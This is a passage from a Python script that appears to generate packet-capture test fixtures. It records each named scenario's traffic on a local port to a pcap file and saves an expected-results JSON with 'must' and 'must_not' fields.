    expected = json.loads(expected_path.read_text()) if expected_path.exists() else {}
    for n, (name, (fn, transport, must, must_not)) in enumerate(SCENARIOS.items()):
        if args.only and name not in args.only:
            continue
        port = 47100 + n
        path = args.out / f"{name}.pcap"
        with Capture(path, port, transport):
            fn(port)
        expected[name] = {"pcap": path.name, "transport": transport, "port": port, "must": must, "must_not": must_not}
        log.info("%-28s %6d bytes", name, path.stat().st_size)
    expected_path.write_text(json.dumps(dict(sorted(expected.items())), indent=1) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
